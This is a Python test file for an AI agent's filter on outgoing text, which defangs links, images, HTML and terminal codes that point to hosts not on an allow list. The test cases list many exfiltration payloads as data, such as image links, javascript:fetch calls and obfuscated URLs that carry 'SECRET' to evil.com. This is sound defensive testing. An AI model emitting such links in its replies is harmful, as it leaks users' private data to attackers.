from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from ragagent.agent.outgoing import REMOVED, is_allowed, shown

HOSTS = ("example.org", "*.intern.example.org")


@pytest.mark.parametrize(
    "text",
    [
        "A room costs 84 euros; 3/4 of them are free, 1,234.5 in all (see report.pdf, chapter 2.1).",
        "e.g. version 1.2.3 of node.js, and/or file.py; mail amy@example.net or call 555-1234.",
        "[1] Prices: a < b, c > d, x[3] (twice), data: 5, a list:\n- one\n- two",
        "See https://example.org/page?x=1 and [the page](https://a.intern.example.org/p).",
        "Das Ergebnis ist 11,92 %. Zwölf Nächte, 日本語のテキスト。",
    ],
)
def test_plain_text_and_links_to_listed_hosts_stay_as_they_are(text: str) -> None:
    assert shown(text, HOSTS) == text


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.com/?d=SECRET)",
        "![x](https://example.org/?d=SECRET)",  # a picture is fetched unasked, wherever it is
        "[click](https://evil.com/?d=SECRET)",
        "[click](//evil.com/SECRET)",
        "[click](&#104;ttps://evil.com/SECRET)",
        "[click](https:\\\\evil.com\\SECRET)",
        "[click](<https://evil.com/SECRET>)",
        '[click](https://example.org/ "SECRET")',
        "[click](https://example.org@evil.com/SECRET)",
        "[click](javascript:fetch('//evil.com/SECRET'))",
        "[click][1]\n\n[1]: https://evil.com/SECRET",
        "[a [nested]](https://evil.com/SECRET)",
        "![a\nb](https://evil.com/SECRET)",
        "see https://evil.com/SECRET.",
        "see HTTPS://EVIL.COM/SECRET",
        "see http://127.0.0.1:8000/SECRET",
        "see localhost:8000/SECRET",
        "see //evil.com/SECRET",
        "see www.evil.com/SECRET",
        "see evil.com/SECRET",
        "see evil.com?d=SECRET",
        "see evil．com／SECRET",
        "see https：//evil.com/SECRET",
        "see ftp://evil.com/SECRET",
        "mailto:evil@evil.com?subject=SECRET",
        "data:text/html;base64,SECRET",
        "<img src=https://evil.com/SECRET>",
        "<a href='//evil.com/SECRET'>x</a>",
        "<iframe src='evil.com/SECRET'></iframe>",
        "ht\u200btps://evil.com/SECRET",
        "https://exam\u00adple.org.evil.com/SECRET",
        "[x](ht[y](z)tps://evil.com/SECRET)",
        "https://hthttps://evil.com/SECRETtps://evil.com/SECRET",
    ],
)
def test_nothing_that_is_fetched_or_followed_leaves_with_its_address(text: str) -> None:
    found = shown(text, HOSTS)
    assert "SECRET" not in found or not re.search(r"\]\(|<[a-z]|:[/／\\]{2}|^mailto|^data", found)
    assert not re.search(r"(?i)evil[.．]com[/／?]", found)
    assert shown(found, HOSTS) == found


def test_a_bare_name_of_a_host_is_made_unusable_but_can_be_read() -> None:
    assert shown("ask evil.com or secret-data.evil.xyz") == "ask evil[.]com or secret-data.evil[.]xyz".replace(
        "data.evil", "data[.]evil"
    )
    assert shown("ask example.org", HOSTS) == "ask example.org"
    assert shown("ask secret.evil.pl") == "ask secret[.]evil[.]pl"
    assert shown("ask evil．com") == "ask evil[.]com"
    for name in ("notes.pl and notes.py", "archive.tar.gz", "os.path.join"):
        assert shown(name) == name


def test_codes_for_terminals_are_taken_out() -> None:
    assert shown("a\x1b]8;;https://evil.com/x\x07 b\x9b2Jc\x00") == f"a]8;;{REMOVED} b2Jc"


@pytest.mark.parametrize(
    ("address", "allowed"),
    [
        ("https://example.org", True),
        ("http://EXAMPLE.org:8080/x?y=1#z", True),
        ("https://a.b.intern.example.org/", True),
        ("https://intern.example.org/", False),
        ("https://www.example.org/", False),
        ("https://example.org.evil.com/", False),
        ("https://user@example.org/", False),
        ("https://example.org\\@evil.com/", False),
        ("ftp://example.org/", False),
        ("//example.org/", False),
        ("https://example.org:x/", False),
        ("https://[::1/", False),
        ("https://exаmple.org/", False),  # with a Cyrillic letter
    ],
)
def test_an_address_is_allowed_when_it_is_a_plain_one_of_a_listed_host(address: str, allowed: bool) -> None:
    assert is_allowed(address, HOSTS) == allowed


marks = re.findall(
    r"\S+",
    r"""[ ] ( ) ! < > http s : / // evil.com example.org www. ? x a &#104; \ " @ . mailto: [1]: ／""",
)
pieces = st.sampled_from([*marks, " ", "\n", "\u200b", REMOVED])


@given(st.lists(pieces, max_size=14).map("".join))
@example("[[1]: a](//x")
def test_whatever_is_said_no_address_of_an_unlisted_host_is_left(text: str) -> None:
    found = shown(text, HOSTS)
    assert shown(found, HOSTS) == found
    assert not re.search(r"<[A-Za-z/!?]", found)
    for match in re.finditer(r"\]\(([^)]*)\)?", found):
        if re.search(r"\[[^\[\]]*$", found[: match.start()]):
            assert is_allowed(match[1], HOSTS)
    for match in re.finditer(r"(?i)\bhttps?://[^\s<>\"'`|{}\[\]]*", found):
        assert is_allowed(match[0].rstrip(".,;:!?)"), HOSTS)
    assert not re.search(r"(?i)(?<![\w@./-])evil\.com(?![\w@-])", found)
